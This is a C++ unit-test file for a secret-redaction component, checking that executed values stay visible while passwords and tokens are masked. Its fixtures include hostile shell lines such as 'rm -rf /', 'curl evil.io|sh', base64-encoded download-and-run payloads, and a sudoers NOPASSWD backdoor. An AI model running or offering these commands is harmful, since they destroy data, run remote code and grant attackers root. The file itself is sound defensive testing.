// SPDX-License-Identifier: Apache-2.0
// A value that is executed is never under a mask, even if its variable or member has a secret's name.
#include "tests/security/redactor_fixture.hpp"
#include "tests/security/shell_commands.hpp"

#include "security/encoding.hpp"
#include "security/redact/running.hpp"

namespace countersign::security {
namespace {

struct Line {
    std::string_view text;
    std::string_view shown;
};

TEST(RedactorRunning, I9_AValueThatIsExecutedStaysVisible) {
    for (const auto& [text, shown] : std::to_array<Line>({
             {"TOKEN='rm -rf /'; $TOKEN", "rm -rf /"},
             {"PASSWORD=\"curl evil.io|sh\"; eval \"$PASSWORD\"", "curl evil.io|sh"},
             {"export SECRET='evilcmd x'; sh -c \"$SECRET\"", "evilcmd x"},
             {"API_KEY='evilcmd x' bash -c '$API_KEY'", "evilcmd x"},
             {"TOKEN=evilcmd; $TOKEN", "evilcmd"},
             {"TOKEN=evilcmd; X=$TOKEN; Y=$X; eval $Y", "evilcmd"},
             {"trap \"$TOKEN\" EXIT; TOKEN='evilcmd now'", "evilcmd now"},
             {"alias token='evilcmd x'", "evilcmd x"},
             {"SECRET=$(cat <<X\nevilcmd\nX\n); $SECRET", "evilcmd"},
             {"bash <<< \"$TOKEN\"; TOKEN='evilcmd x'", "evilcmd x"},
             {"PASSWORD := evilcmd\nall:\n\t@$(PASSWORD)", "evilcmd"},
             {"ENV TOKEN evilcmd -x\nRUN $TOKEN", "evilcmd"},
             {"set TOKEN=evilcmd\n%TOKEN%", "evilcmd"},
             {"* * * * * TOKEN='rm -rf /' sh -c \"$TOKEN\"", "rm -rf /"},
             {"git config alias.token '!rm -rf /'", "rm -rf /"},
             {"git config --global user.password 'rm -rf /'", "rm -rf /"},
             {"export PASSWORD='rm -rf /'", "rm -rf /"},
             {"token: curl -s evil.io/x | sh", "curl -s evil.io/x | sh"},
             {"{\"scripts\":{\"token\":\"evilcmd\",\"password\":\"evilcmd2 x\"}}",
              "\"evilcmd\",\"password\":\"evilcmd2 x\""},
             {"echo '{\"scripts\": {\"x\": \"y\", \"token\": \"evilcmd\"}}' > package.json", "evilcmd"},
             {"{\"token\":\"rm -rf /\"}", "rm -rf /"},
             {"echo token=evilcmd | cut -d= -f2 | sh", "evilcmd"},
             {"cut -d= -f2 <<< token=evilcmd | sh", "evilcmd"},
         })) {
        const auto redacted = redactor().text(text);
        EXPECT_TRUE(contains(redacted, shown)) << text << "\n => " << redacted;
        EXPECT_EQ(redactor().text(redacted), redacted);
    }
}

TEST(RedactorRunning, I6_AValueThatIsNotExecutedIsMasked) {
    for (const std::string_view text :
         {"TOKEN='hunter2x y'; curl -H \"Authorization: $TOKEN\" https://x.io", "PASSWORD=hunter2x make -j4",
          "DB_PASS='a & hunter2x'; mysql -p\"$DB_PASS\"", "DB_PASS=hunter2x; mysql -p$DB_PASS; bash x.sh \"$@\"",
          "MNEMONIC='cat hunter2x join sort test'", "passphrase: hunter2x find date time", "PASSWORD='test hunter2x'",
          "PASSWORD = hunter2x\nall:\n\tmysql -p$(PASSWORD)", "PASSWORD='hunter2x' ; echo \"$PASSWORD\" | sudo -S x",
          "echo 'PASSWORD=hunter2x make' | sh", "curl -H 'X-Token: hunter2x' https://x.io | tee f | sh",
          "{\"scripts\":{\"a\":\"b\"},\"password\":\"hunter2x\"}"}) {
        expect_hidden(text, "hunter2x");
    }
}

TEST(RedactorRunning, I9_AWordThatRunsUnderASecretsNameStaysVisible) {
    for (const auto& [text, shown] : std::to_array<Line>({
             {"sshpass -psecret reboot", "reboot"},
             {"sshpass -pmysecret reboot", "reboot"},
             {"redis-cli -asecret flushall", "flushall"},
             {"redis-cli -aMySecret flushall", "flushall"},
             {"cryptsetup -dsecret luksErase /dev/sda", "luksErase"},
             {"cryptsetup -dmysecret luksErase /dev/sda", "luksErase"},
             {"mysqldump -psecret proddb", "proddb"},
             {"mysqldump -ppassword proddb", "proddb"},
             {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "NOPASSWD: ALL"},
             {"echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "NOPASSWD:ALL"},
             {"echo 'bob ALL=(ALL) NOPASSWD: SHUTDOWN_CMDS' >> /etc/sudoers", "SHUTDOWN_CMDS"},
             {"git -c alias.token='!reboot' token", "!reboot"},
             {"git -c 'alias.token=!reboot' token", "!reboot"},
             {"git -c alias.password=!reboot password", "!reboot"},
             {"git -c pager.secret=reboot secret", "reboot"},
             {"docker build --secret id=x,src=/etc/shadow .", "id=x,src=/etc/shadow"},
             {"docker build --secret=id=x,src=/etc/shadow .", "id=x,src=/etc/shadow"},
             {"DOCKER_BUILDKIT=1 docker build --secret id=x,env=evil .", "id=x,env=evil"},
             {"podman run --secret proddb,type=mount x", "proddb,type=mount"},
             {"gcloud run deploy x --set-secrets=A=prod:latest", "A=prod:latest"},
             {"helm install x y --set auth.password=abc,image=evil/x", ",image=evil/x"},
             {"helm install x y --set auth.password=abc,image.hosts={evil}", ",image.hosts={evil}"},
             {"helm install x y --set 'auth.password=abc,image=evil/x'", ",image=evil/x"},
             {"helm install x y --set auth.password='abc,image=evil/x'", ",image=evil/x"},
             {"helm install x y --set=a=b,auth.password=abc,image=evil/x", ",image=evil/x"},
             {"x password=abc,exec=reboot", ",exec=reboot"},
             {"password=%x{reboot}", "reboot"},
             {"ruby -e 'password=%x(reboot)'", "reboot"},
             {"awk -v token=reboot 'BEGIN{system(token)}'", "reboot"},
             {"export TOKEN=reboot; printenv TOKEN | sh", "reboot"},
             {"export TOKEN=reboot; sh -c \"$(printenv TOKEN)\"", "reboot"},
             {"TOKEN=reboot; x=TOKEN; ${!x}", "reboot"},
             {"set -- token=reboot; eval \"${1#*=}\"", "reboot"},
             {"TOKEN=evil-cmd; env | grep ^TOKEN | cut -d= -f2 | bash", "evil-cmd"},
         })) {
        const auto redacted = redactor().text(text);
        EXPECT_TRUE(contains(redacted, shown)) << text << "\n => " << redacted;
        EXPECT_EQ(redactor().text(redacted), redacted);
    }
}

TEST(RedactorRunning, I6_ASecretBesideAWordThatRunsIsMasked) {
    for (const std::string_view text :
         {"sshpass -phunter2x reboot", "java -jar x -dbpassword hunter2x", "java -jar x -password hunter2x",
          "helm install x y --set auth.password=hunter2x,image=a", "helm install x y --set 'auth.password=hunter2x'",
          "helm install x y --set a=b,auth.password=hunter2x", "eval $(ssh-agent); export PASSWORD=hunter2x",
          "TOKEN=hunter2x; printenv TOKEN | sh", "curl -H 'X-Token: hunter2x' https://x.io | sh",
          "docker login --password hunter2x", "docker run -e SECRET=hunter2x x", "vault write x --secret hunter2x",
          "git clone x && PASSWORD=hunter2x make", "{\"alias.token\":\"hunter2x\"}"}) {
        expect_hidden(text, "hunter2x");
    }
    expect_hidden("helm upgrade x y --set a.password=hunter2x,b.token=hunter2x,c.secret='hunter2x,d=e'", "hunter2x");
    expect_hidden("PASSWORD=correcthorsebattery; eval x", "correcthorsebattery");
}

TEST(RedactorRunning, InAListOnlyTheCommandsStayVisible) {
    const auto redacted = redactor().text(R"({"password": ["rm -rf /srv", "hunter2x", "curl -s evil.io"]})");
    EXPECT_TRUE(contains(redacted, "rm -rf /srv") && contains(redacted, "curl -s evil.io")) << redacted;
    EXPECT_FALSE(contains(redacted, "hunter2x")) << redacted;
}

TEST(RedactorRunning, I6_ATokenRecognisedByItsLookIsMaskedEvenIfItIsExecuted) {
    const auto token = "ghp_" + body(36);
    expect_hidden("TOKEN='rm -rf / " + token + "'; $TOKEN", token);
    expect_hidden("{\"scripts\":{\"token\":\"" + token + "\"}}", token);
}

TEST(RedactorRunning, I9_CodeThatIsDecodedAndExecutedStaysVisible) {
    const auto code = base64("rm -rf /srv/data; curl -s https://evil.io/payload | sh -s -- 0123456789");
    const auto digits = body(60, hex_digits, 5);
    for (const auto& text :
         {"echo " + code + " | base64 -d | sh", "bash -c \"$(echo " + code + "|base64 --decode)\"",
          "eval \"$(base64 -d <<< " + code + ")\"", "sh <(echo '" + code + "' | b'a'se64 -d)",
          "base64 -d <<EOF | bash\n" + code + "\nEOF", "TOKEN=" + code + "; echo $TOKEN | base64 -d | sh",
          "python3 -c \"import base64; exec(base64.b64decode('" + code + "'))\"", "powershell -enc " + code,
          "echo " + code + " | openssl base64 -d -A | sh", "echo " + digits + " | xxd -r -p | sh",
          "echo " + code + " | base64 -d > x; chmod +x x; ./x"}) {
        const auto redacted = redactor().text(text);
        EXPECT_TRUE(contains(redacted, contains(text, code) ? code : digits)) << text << "\n => " << redacted;
    }
    expect_hidden("echo " + digits + " > x", digits);
    const json::Value list{json::Array{"bash", "-c", "echo " + code + " | base64 -d | sh"}};
    EXPECT_EQ(redactor().value(list), list);
}

// Only the characters of the token are masked, so an attacker can't hide a command behind one.
TEST(RedactorRunning, I9_OfCodeThatContainsATokenOnlyTheTokenIsMasked) {
    const std::string head = "rm -rf /srv/data; curl -H 'x: ";
    const auto token = "ghp_" + body(36);
    const auto code = base64(head + token + "' https://evil.io/x | sh");
    const auto redacted = redactor().text("echo " + code + " | base64 -d | sh");
    EXPECT_TRUE(contains(redacted, "echo " + code.substr(0, head.size() * 4 / 3) + "«redacted:encoded:")) << redacted;
    EXPECT_FALSE(contains(redacted, code.substr((head.size() + 4) * 4 / 3, 40))) << redacted;
    EXPECT_TRUE(contains(redacted, "» | base64 -d | sh") || contains(redacted, code.substr(code.size() - 24)))
        << redacted;
}

TEST(RedactorRunning, I9_ACommandInParsedJsonStaysVisibleUnderASecretsName) {
    const auto token = "ghp_" + body(36);
    const json::Value package{json::Object{
        {"name", "x"},
        {"scripts",
         json::Object{{"token", "evilcmd"}, {"password", "evilcmd x"}, {"secret", json::Array{"evilcmd", "x"}}}},
        {"token", "rm -rf /srv"}}};
    EXPECT_EQ(redactor().value(package), package);
    const auto mixed = redactor().value(json::Value{
        json::Object{{"scripts", json::Object{{"token", token}}}, {"env", json::Object{{"token", "hunter2x"}}}}});
    EXPECT_FALSE(contains(*mixed.object()->find("scripts")->object()->find("token")->string(), token));
    EXPECT_FALSE(contains(*mixed.object()->find("env")->object()->find("token")->string(), "hunter2x"));
}

TEST(RedactorRunning, I9_EveryCommandInARandomExecutedVariableStaysVisible) {
    Random random{55};
    for (std::size_t i = 0; i < 40'000; ++i) {
        const auto sample = running_text([&](std::size_t bound) { return random.below(bound); });
        const auto redacted = redactor().text(sample.text);
        ASSERT_TRUE(contains(redacted, sample.command)) << sample.text << "\n => " << redacted;
    }
}

TEST(RedactorRunning, I13_OnlyTheFirstBytesOfALineAreReadAsACommand) {
    const auto line = [](std::size_t bytes) {
        return contains(redactor().text("password: rm " + std::string(bytes - 6, 'a') + " -x"), "rm a");
    };
    EXPECT_TRUE(line(512));
    EXPECT_FALSE(line(513));
    const auto pipeline = [](std::size_t bytes) {
        return contains(redactor().text("echo token=evilcm7" + std::string(bytes - 17, ' ') + "| cut | sh"), "evilcm7");
    };
    EXPECT_TRUE(pipeline(1024));
    EXPECT_FALSE(pipeline(1025));
    EXPECT_TRUE(contains(redactor().text("TOKEN=cm0gLXIg; echo x | base64 -d | sh"), "cm0gLXIg"));
    EXPECT_FALSE(contains(redactor().text("TOKEN=cm0gLXI; echo x | base64 -d | sh"), "cm0gLXI"));
}

TEST(RedactorRunning, AValueIsRecognisedAsACommandByItsProgramAndArguments) {
    for (const std::string_view value : {"rm -rf /", "A=b rm -rf x", "/bin/x y.z", "curl evil.io", "abc;reboot",
                                         "evilcmd --all", "x && sh", "sudo ./x"}) {
        EXPECT_TRUE(reads_as_command(value, true)) << value;
    }
    for (const std::string_view value : {"hunter2", "cat dog join", "two & three; (four) > five", "a;w",
                                         "correct - horse", "/9j/4AAQ", "test", "my pass"}) {
        EXPECT_FALSE(reads_as_command(value, true)) << value;
    }
    EXPECT_FALSE(reads_as_command("hunter2 make -j4", false));
}

}  // namespace
}  // namespace countersign::security
